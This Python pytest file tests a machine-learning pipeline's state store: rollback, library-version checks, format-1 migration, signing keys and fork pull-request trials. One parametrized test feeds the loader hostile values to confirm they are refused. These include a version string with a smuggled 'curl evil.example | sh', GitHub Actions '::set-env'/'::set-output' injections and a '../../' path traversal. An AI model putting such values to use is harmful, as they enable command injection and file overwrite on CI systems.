"""Ways back.

To the state before, from other libraries, from an older format, and from a key that is
not there.
"""

from __future__ import annotations

import json
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline.cli import model_queries, queries
from pipeline.errors import (
    SettingsError,
    StateFormatError,
    StateKeyError,
    StateLibrariesError,
    StateMismatchError,
    StateTamperedError,
)
from pipeline.models.population import Population
from pipeline.models.user_model import UserModel
from pipeline.prediction.loading import load_champion
from pipeline.settings import Settings, load
from pipeline.state import compatibility as libraries
from pipeline.state import prediction_check
from pipeline.state.document import (
    FORMAT,
    READERS,
    compute_signature,
    serialize_json,
)
from pipeline.state.pickles import load_pickle
from pipeline.state.store import Store
from pipeline.state.verification import KEY_VARIABLE
from pipeline.training.update import update

KEY = {KEY_VARIABLE: "correct horse"}
FORK = {"GITHUB_EVENT_NAME": "pull_request", KEY_VARIABLE: ""}
TRY = Settings(on_library_change="try")


def train(
    root: Path, environment: dict[str, str] | None = None, **flags: object
) -> dict[str, Any]:
    given = {"iterations": 1, "batch_rows": 300, "models": "sgd", **flags}
    update(root, load(root, {}, given), environment or {})
    summary = json.loads((root / "runtime/logs/summary.json").read_text())
    assert isinstance(summary, dict)
    return summary


def store(root: Path, *, key: bool = False) -> Store:
    return Store(root / "runtime", KEY[KEY_VARIABLE].encode() if key else None)


def snapshot(root: Path) -> dict[str, bytes]:
    folders = (root / "runtime/model", root / "runtime/data")
    return {
        path.name: path.read_bytes()
        for folder in folders
        for path in sorted(folder.glob("*"))
    }


def logs(root: Path) -> str:
    return "".join(
        path.read_text() for path in sorted((root / "runtime/logs").glob("*.log"))
    )


def edit(root: Path, **parts: object) -> None:
    path = root / "runtime/data/data_state.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **parts}))


@pytest.mark.parametrize("key", [{}, KEY])
def test_rollback_is_the_state_of_before_to_the_byte_and_training_goes_on_from_it(
    tmp_path: Path, key: dict[str, str]
) -> None:
    train(tmp_path, key)
    before = train(tmp_path, key, keep_previous="false")
    then = snapshot(tmp_path)
    train(tmp_path, key, iterations=3, checkpoint_seconds=0)
    assert store(tmp_path, key=bool(key)).rollback().state_id == before["state_id"]
    assert snapshot(tmp_path) == then
    again = train(tmp_path, key)
    assert (again["parent_state_id"], again["rows_total"]) == (before["state_id"], 900)


def test_rollback_goes_back_once_and_says_so(tmp_path: Path) -> None:
    with pytest.raises(StateFormatError, match="no state"):
        store(tmp_path).rollback()
    train(tmp_path)
    for _ in range(2):
        with pytest.raises(StateMismatchError, match="keeps none from before it"):
            store(tmp_path).rollback()
        train(tmp_path)
        store(tmp_path).rollback()


def test_what_is_kept_does_not_grow(tmp_path: Path) -> None:
    sizes = []
    for _ in range(5):
        train(tmp_path)
        content = snapshot(tmp_path)
        sizes.append(len(content["data_state.json"]))
        assert len(content) == (3 if len(sizes) == 1 else 5)
    assert sizes[4] - sizes[3] < 1000
    train(tmp_path, keep_previous="false")
    assert len(snapshot(tmp_path)) == 3


def test_learning_anew_can_be_taken_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    train(tmp_path)
    learnt = train(tmp_path)
    other_libraries(monkeypatch)
    assert train(tmp_path, on_library_change="retrain")["rows_total"] == 300
    assert store(tmp_path).rollback().state_id == learnt["state_id"]


@pytest.mark.parametrize("damage", ["population", "champion", "document"])
def test_a_previous_state_that_was_changed_is_refused_and_the_state_stays(
    tmp_path: Path, damage: str
) -> None:
    train(tmp_path, KEY)
    train(tmp_path, KEY)
    document = store(tmp_path).read_document()
    assert document is not None
    previous = document.previous
    assert previous is not None
    if damage == "document":
        changed = previous._replace(counters=previous.counters._replace(rows=7))
        edit(tmp_path, previous=changed.to_json())
    else:
        name = (
            previous.population
            if damage == "population"
            else next(iter(snapshot_of(tmp_path, "previous-")))
        )
        (tmp_path / "runtime/model" / name).write_bytes(b"changed")
    before = snapshot(tmp_path)
    with pytest.raises(StateTamperedError):
        store(tmp_path, key=True).rollback()
    with pytest.raises(StateTamperedError):
        model_queries.verify_state(store(tmp_path, key=True))
    assert snapshot(tmp_path) == before
    if damage != "document":
        assert train(tmp_path, KEY)["rows_total"] == 900


def snapshot_of(root: Path, prefix: str) -> list[str]:
    return [name for name in snapshot(root) if name.startswith(prefix)]


def other_libraries(monkeypatch: pytest.MonkeyPatch, **changed: str) -> None:
    now = libraries.read_versions() | {
        name.replace("_", "-"): version for name, version in changed.items()
    }
    monkeypatch.setattr(
        libraries,
        "read_versions",
        lambda: now if changed else now | {"scikit-learn": "1.0.2"},
    )


def test_the_last_figure_and_what_keeps_no_pickles_may_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    train(tmp_path)
    now = libraries.read_versions()
    patched = ".".join([*now["scikit-learn"].split(".")[:2], "99"])
    other_libraries(
        monkeypatch, scikit_learn=patched, joblib="9.9", scipy="9.9", python="3.99"
    )
    assert train(tmp_path)["rows_total"] == 600


def test_a_pickle_of_another_bugfix_release_is_read_without_a_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patched:
        patched.setattr("sklearn.base.__version__", "1.9.0.other")
        train(tmp_path)
    assert train(tmp_path)["rows_total"] == 600


def test_the_error_names_the_versions_to_install_and_both_other_ways(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    train(tmp_path)
    then = libraries.read_versions()
    other_libraries(monkeypatch)
    with pytest.raises(StateLibrariesError) as caught:
        train(tmp_path)
    pins = " ".join(f"{name}=={then[name]}" for name in libraries.NAMES)
    assert f"pip install {pins};" in caught.value.hint
    assert "--on-library-change try" in caught.value.hint
    assert "--on-library-change retrain" in caught.value.hint


@pytest.mark.parametrize("models", ["sgd", "auto"])
def test_a_state_of_other_libraries_is_tried_and_goes_on_as_if_nothing_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, models: str
) -> None:
    for root in (tmp_path / "tried", tmp_path / "same"):
        train(root, models=models, iterations=2)
    other_libraries(monkeypatch)
    assert (
        train(tmp_path / "tried", models=models, on_library_change="try")["rows_total"]
        == 900
    )
    assert "predict what they did (within 0), and can be trained; going on" in logs(
        tmp_path / "tried"
    )
    monkeypatch.undo()
    train(tmp_path / "same", models=models)
    one, other = (
        store(root).load() for root in (tmp_path / "tried", tmp_path / "same")
    )
    assert one is not None
    assert other is not None
    assert one.population == other.population


def test_other_commands_try_where_they_are_told_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    train(tmp_path)
    other_libraries(monkeypatch)
    for command in (model_queries.verify_state, load_champion):
        with pytest.raises(StateLibrariesError):
            command(store(tmp_path))
        command(store(tmp_path), TRY)


def says_otherwise(learner: Any, matrix: Any) -> Any:  # noqa: ANN401
    return (matrix @ learner.coef_.T + learner.intercept_).ravel() + 0.01


def lost_an_attribute(learner: Any, matrix: Any, *_: Any, **__: Any) -> None:  # noqa: ANN401, ARG001
    raise AttributeError("'SGDClassifier' object has no attribute '_renamed'")


@pytest.mark.parametrize(
    ("method", "replacement", "match"),
    [
        ("decision_function", says_otherwise, "sgd predicts something else"),
        ("decision_function", lost_an_attribute, "sgd fails: AttributeError"),
        ("partial_fit", lost_an_attribute, "sgd fails: AttributeError"),
        ("__setstate__", lost_an_attribute, "is not a pickle of this pipeline"),
    ],
)
def test_a_state_that_does_not_hold_under_other_libraries_is_refused_with_the_reason(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    method: str,
    replacement: object,
    match: str,
) -> None:
    train(tmp_path, iterations=2)
    before = snapshot(tmp_path)
    other_libraries(monkeypatch)
    monkeypatch.setattr(f"sklearn.linear_model.SGDClassifier.{method}", replacement)
    with pytest.raises(StateLibrariesError, match=match) as caught:
        train(tmp_path, on_library_change="try")
    assert "pip install" in caught.value.hint
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("command", ["verify", "update"])
def test_what_may_be_of_other_libraries_is_never_advised_to_be_thrown_away(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    train(tmp_path)
    monkeypatch.setattr(
        "sklearn.linear_model.SGDClassifier.__setstate__", lost_an_attribute
    )
    commands: dict[str, Callable[[], object]] = {
        "verify": lambda: model_queries.verify_state(store(tmp_path)),
        "update": lambda: train(tmp_path, iterations=2),
    }
    with pytest.raises(StateTamperedError, match="library versions") as caught:
        commands[command]()
    assert "other library versions" in caught.value.hint
    assert "reset" not in caught.value.hint


@pytest.mark.parametrize("damage", ["dtype", "shape", "other"])
def test_kept_scores_that_were_changed_lead_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: str
) -> None:
    train(tmp_path)
    document = store(tmp_path).read_document()
    assert document is not None
    kept = document.probe
    assert kept is not None
    if damage == "other":
        kept["said"] = {"mlp": kept["said"]["sgd"]}
    else:
        kept["said"]["sgd"][damage] = {"dtype": "O", "shape": [1 << 40]}[damage]
    edit(tmp_path, probe=kept)
    other_libraries(monkeypatch)
    with pytest.raises(StateTamperedError, match="recorded predictions cannot be read"):
        train(tmp_path, on_library_change="try")


def test_every_candidate_has_something_to_say_of_the_rows_that_are_drawn(
    tmp_path: Path,
) -> None:
    """A score that does not depend on what was learnt would let any model pass for another."""

    for iterations in (2, 3):
        train(tmp_path / str(iterations), models="auto", iterations=iterations)
    two, three = (store(tmp_path / name).read_document() for name in ("2", "3"))
    assert two is not None
    assert two.probe is not None
    assert three is not None
    assert three.probe is not None
    for name, packed in three.probe["said"].items():
        said = prediction_check.unpack_array(packed)
        assert len(np.unique(said)) > prediction_check.ROWS / 2, name
        assert (
            np.abs(said - prediction_check.unpack_array(two.probe["said"][name])).max()
            > 10 * prediction_check.TOLERANCE
        ), name


@pytest.mark.parametrize("models", ["sgd", "auto"])
def test_what_is_kept_to_try_changes_nothing_in_what_is_learnt(
    tmp_path: Path, models: str
) -> None:
    """Rows are scored at each commit: where commits fall must not show in the models."""
    train(tmp_path / "often", models=models, iterations=6, checkpoint_seconds=0)
    train(tmp_path / "once", models=models, iterations=6)
    often, once = (store(tmp_path / name).load() for name in ("often", "once"))
    assert often is not None
    assert once is not None
    assert often.population == once.population


def test_a_state_keeps_no_row_of_the_source(tmp_path: Path) -> None:
    """Neither as it came nor encoded.

    The rows that candidates are asked about know only how many columns there are.
    """

    kept = []
    for salt in (1, 2):
        root = tmp_path / str(salt)
        root.mkdir()
        rows = "".join(
            f"who{salt * index % 7},{salt * index * 1009.25},{index % 2}\n"
            for index in range(40)
        )
        (root / "rows.csv").write_text("who,pay,late\n" + rows)
        train(root, source="rows.csv", target="late", batch_rows=20, models="auto")
        state = store(root).load()
        assert state is not None
        assert state.document.probe is not None
        assert set(state.document.probe) == {"drawn", "said"}
        population = load_pickle(state.population, "population")
        kept.append(
            {
                name: prediction_check.draw_rows(population, each.view)
                for name, each in population.candidates.items()
            }
        )
    for name, rows_of_one in kept[0].items():
        other = kept[1][name]
        same = (
            (rows_of_one != other).nnz == 0
            if hasattr(other, "nnz")
            else np.array_equal(rows_of_one, other)
        )
        assert same, name


def sign_as_written(text: str) -> bytes:
    """A document of any format with the signature of the key."""
    document = json.loads(text)
    signature = compute_signature(document, KEY[KEY_VARIABLE].encode())
    return serialize_json({**document, "signature": signature})


PRIOR = """
import numpy as np

class Prior:
    view = "plain"
    def __init__(self):
        self.counts = np.zeros(2)
    def partial_fit(self, matrix, target, classes):
        self.counts = self.counts + np.bincount(target, minlength=len(classes))
        return self
    def predict_proba(self, matrix):
        return np.tile((self.counts + 1) / (self.counts + 1).sum(), (matrix.shape[0], 1))
"""


@pytest.fixture
def old_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Two batches of 300 rows, learnt by the last version that wrote format 1.

    With a candidate of numpy alone.
    """
    with tarfile.open(Path(__file__).with_name("state_format_1.tar.gz")) as archive:
        archive.extractall(tmp_path, filter="data")
    (tmp_path / "plain_prior.py").write_text(PRIOR)
    monkeypatch.syspath_prepend(str(tmp_path))
    written = json.loads((tmp_path / "runtime/data/data_state.json").read_text())
    assert written["format"] == 1
    monkeypatch.setattr(libraries, "read_versions", lambda: written["libraries"])
    return tmp_path


def test_a_state_of_format_1_is_read_goes_on_and_is_written_anew(
    old_state: Path,
) -> None:
    before = snapshot(old_state)
    assert queries.describe_state(store(old_state))["rows"] == 600
    settings = Settings(models=("plain_prior:Prior",))
    assert "previous state: none kept" in model_queries.verify_state(
        store(old_state), settings
    )
    assert snapshot(old_state) == before
    summary = train(old_state, models="plain_prior:Prior")
    assert (summary["rows_total"], summary["parent_state_id"]) == (
        900,
        "60b400774e364aae",
    )
    document = json.loads((old_state / "runtime/data/data_state.json").read_text())
    assert (document["format"], document["previous"]["format"]) == (FORMAT, FORMAT)
    assert store(old_state).rollback().state_id == "60b400774e364aae"
    state = store(old_state).load()
    assert state is not None
    population = load_pickle(state.population, "population", settings.models)
    assert isinstance(population, Population)
    prior = population.candidates["plain_prior:Prior"]
    assert isinstance(prior, UserModel)
    assert prior.estimator.counts.sum() == 600


def test_a_state_of_format_1_keeps_nothing_to_try_it_with(
    old_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other_libraries(monkeypatch)
    with pytest.raises(
        StateLibrariesError, match="does not say by what its models can be known"
    ):
        train(old_state, models="plain_prior:Prior", on_library_change="try")


@pytest.mark.parametrize("damage", ["best_model.pkl", "population-*.pkl"])
def test_rollback_leads_away_from_a_damaged_state(tmp_path: Path, damage: str) -> None:
    train(tmp_path)
    first = store(tmp_path).load()
    assert first is not None
    train(tmp_path)
    now = store(tmp_path).read_document()
    assert now is not None
    (path,) = [
        path
        for path in (tmp_path / "runtime/model").glob(damage)
        if path.name in now.files
    ]
    path.write_bytes(b"")
    with pytest.raises(StateTamperedError):
        store(tmp_path).load()
    store(tmp_path).rollback()
    back = store(tmp_path).load()
    assert back is not None
    assert (back.population, back.champion) == (first.population, first.champion)


def test_rollback_and_sign_say_what_they_lack(tmp_path: Path) -> None:
    with pytest.raises(StateFormatError) as none:
        store(tmp_path).rollback()
    assert "update` makes one" in none.value.hint
    train(tmp_path)
    with pytest.raises(StateMismatchError, match="keeps none from before it") as first:
        store(tmp_path).rollback()
    assert "artifacts of older runs" in first.value.hint


def test_a_signed_state_of_format_1_can_be_signed_again(old_state: Path) -> None:
    path = old_state / "runtime/data/data_state.json"
    path.write_bytes(sign_as_written(path.read_text()))
    store(old_state, key=True).sign()
    assert store(old_state, key=True).load() is not None


def test_a_summary_that_cannot_be_written_does_not_undo_what_was_learnt(
    tmp_path: Path,
) -> None:
    train(tmp_path)
    (tmp_path / "runtime/logs/summary.json").unlink()
    (tmp_path / "runtime/logs/summary.json").mkdir()
    settings = load(tmp_path, {}, {"models": "sgd", "batch_rows": 300, "iterations": 1})
    assert (
        update(
            tmp_path, settings, {"GITHUB_STEP_SUMMARY": str(tmp_path / "none/there.md")}
        )
        == 0
    )
    document = store(tmp_path).read_document()
    assert document is not None
    assert document.counters.runs == 2
    assert logs(tmp_path).count("the state is stored all the same") == 2


def test_a_signed_state_of_format_1_is_checked_as_it_was_signed(
    old_state: Path,
) -> None:
    path = old_state / "runtime/data/data_state.json"
    path.write_bytes(sign_as_written(path.read_text()))
    assert train(old_state, KEY, models="plain_prior:Prior")["rows_total"] == 900
    assert store(old_state, key=True).rollback().is_signed


def test_there_is_a_reader_for_every_format_up_to_the_newest() -> None:
    assert sorted(READERS) == list(range(1, FORMAT + 1))


@pytest.mark.parametrize("version", [0, -1, FORMAT + 1, 10**30, True, "2", None, [2]])
def test_other_formats_are_refused_with_the_reason(
    tmp_path: Path, version: object
) -> None:
    train(tmp_path)
    edit(tmp_path, format=version)
    before = snapshot(tmp_path)
    with pytest.raises(StateFormatError, match="format"):
        train(tmp_path)
    assert snapshot(tmp_path) == before


PLACE: dict[str, object] = {
    "offset": 3,
    "records": 1,
    "taken": 1,
    "stride": 1,
    "end": None,
    "marks": [],
}


@pytest.mark.parametrize(
    "wrong",
    [
        {"counters": {}},
        {"counters": {"rows": "3", "batches": 1, "unlabelled": 0, "runs": 1}},
        {"libraries": {"scikit-learn": "1.0; curl evil.example | sh"}},
        {"state_id": "\n::set-env name=PATH::x"},
        {"population": "../../elsewhere.pkl"},
        {"files": {}},
        {"source": {"name": "sample"}},
        {"history": ["x"]},
        {"models": "sgd"},
        {"probe": 3},
        {"previous": {"format": 2}},
        {"previous": {"format": 1}},
        {"metric": "good"},
        {"metric": {"name": "auc", "value": "0.5"}},
        {"figures": {"sgd": 3}},
        {"figures": {"sgd": {"auc": 0.5}}},
        {"figures": {"::stop-commands::x": {"loss": 0.5}}},
        {"champion": "x\n::set-output name=evil::1"},
        {"models": ["x\n::set-output name=evil::1"]},
        {"libraries": {}},
        {"counters": {"rows": -5, "batches": 1, "unlabelled": 0, "runs": 1}},
        {"source": {"name": "sample", "cursor": {"files": {"a.csv": {"offset": 3}}}}},
        {
            "source": {
                "name": "sample",
                "cursor": {"files": {"a.csv": {**PLACE, "offset": "x"}}},
            }
        },
        {
            "source": {
                "name": "sample",
                "cursor": {"files": {"a.csv": {**PLACE, "marks": [[0, "x", "y"]]}}},
            }
        },
        {
            "source": {
                "name": "sample",
                "cursor": {"files": {"a.csv": {**PLACE, "end": [3]}}},
            }
        },
        {"history": [{}]},
        {
            "history": [
                {
                    "at": "::error::",
                    "batches": 1,
                    "rows": 1,
                    "champion": "sgd",
                    "metric": None,
                }
            ]
        },
        {"figures": {"sgd": {"loss": "low"}}},
        {
            "history": [
                {
                    "at": "now",
                    "batches": 1,
                    "rows": 1,
                    "champion": "sgd",
                    "metric": "good",
                }
            ]
        },
    ],
)
def test_a_document_with_parts_of_another_kind_is_refused(
    tmp_path: Path, wrong: dict[str, object]
) -> None:
    train(tmp_path)
    edit(tmp_path, **wrong)
    with pytest.raises(StateFormatError, match="another kind"):
        train(tmp_path)


def test_a_document_nested_beyond_reason_is_refused(tmp_path: Path) -> None:
    train(tmp_path)
    (tmp_path / "runtime/data/data_state.json").write_text("[" * 200_000)
    with pytest.raises(StateTamperedError, match="no JSON"):
        train(tmp_path)


def test_without_the_key_a_signed_state_is_not_trained_on(tmp_path: Path) -> None:
    train(tmp_path, KEY)
    before = snapshot(tmp_path)
    for environment in (
        {},
        {KEY_VARIABLE: ""},
        {"GITHUB_EVENT_NAME": "schedule"},
        {"GITHUB_EVENT_NAME": "push"},
    ):
        with pytest.raises(
            StateKeyError, match="is signed and PIPELINE_STATE_KEY is not set"
        ) as caught:
            train(tmp_path, environment)
        assert "sign --remove" in caught.value.hint
    assert snapshot(tmp_path) == before
    assert train(tmp_path, KEY)["rows_total"] == 600


def test_a_pull_request_from_a_fork_is_a_trial_that_stores_nothing(
    tmp_path: Path,
) -> None:
    stored = train(tmp_path, KEY)
    before = snapshot(tmp_path)
    page = tmp_path / "page.md"
    trial = train(
        tmp_path,
        {**FORK, "GITHUB_STEP_SUMMARY": str(page)},
        iterations=2,
        checkpoint_seconds=0,
    )
    assert (trial["status"], trial["rows_this_run"], trial["rows_total"]) == (
        "learnt",
        600,
        900,
    )
    assert (trial["stored"], trial["state_id"]) == (False, stored["state_id"])
    assert trial["metric"]
    assert snapshot(tmp_path) == before
    assert logs(tmp_path).count("warning: ") == 1
    assert "nothing stored" in page.read_text()


def test_a_trial_leaves_what_a_kill_left(tmp_path: Path) -> None:
    train(tmp_path, KEY)
    (tmp_path / "runtime/model/best_model.pkl.next").write_bytes(b"x")
    before = snapshot(tmp_path)
    train(tmp_path, FORK, iterations=100)
    assert train(tmp_path, FORK)["status"] == "learnt"
    assert snapshot(tmp_path) == before


def test_a_pull_request_over_an_unsigned_state_stores_as_ever(tmp_path: Path) -> None:
    train(tmp_path)
    assert train(tmp_path, FORK)["stored"]
    assert store(tmp_path).load() is not None
    assert train(tmp_path)["rows_total"] == 900


def test_a_lost_key_is_given_up_by_word_alone(tmp_path: Path) -> None:
    train(tmp_path, KEY)
    train(tmp_path, KEY)
    store(tmp_path).unsign()
    assert train(tmp_path)["rows_total"] == 900
    with pytest.raises(StateTamperedError, match="is not signed"):
        train(tmp_path, KEY)
    store(tmp_path, key=True).sign()
    assert train(tmp_path, KEY)["rows_total"] == 1200
    store(tmp_path, key=True).rollback()
    with pytest.raises(SettingsError):
        store(tmp_path).sign()


@pytest.mark.parametrize(
    ("signed", "key", "said"),
    [({}, False, "none"), (KEY, False, "not checked"), (KEY, True, "made")],
)
def test_status_and_verify_say_what_the_signature_is_worth(
    tmp_path: Path, signed: dict[str, str], key: bool, said: str
) -> None:
    train(tmp_path, signed)
    facts = queries.describe_state(store(tmp_path, key=key))
    assert (facts["signed"], facts["signature_checked"]) == (bool(signed), key)
    assert any(
        line.startswith(f"signature: {said}")
        for line in model_queries.verify_state(store(tmp_path, key=key))
    )
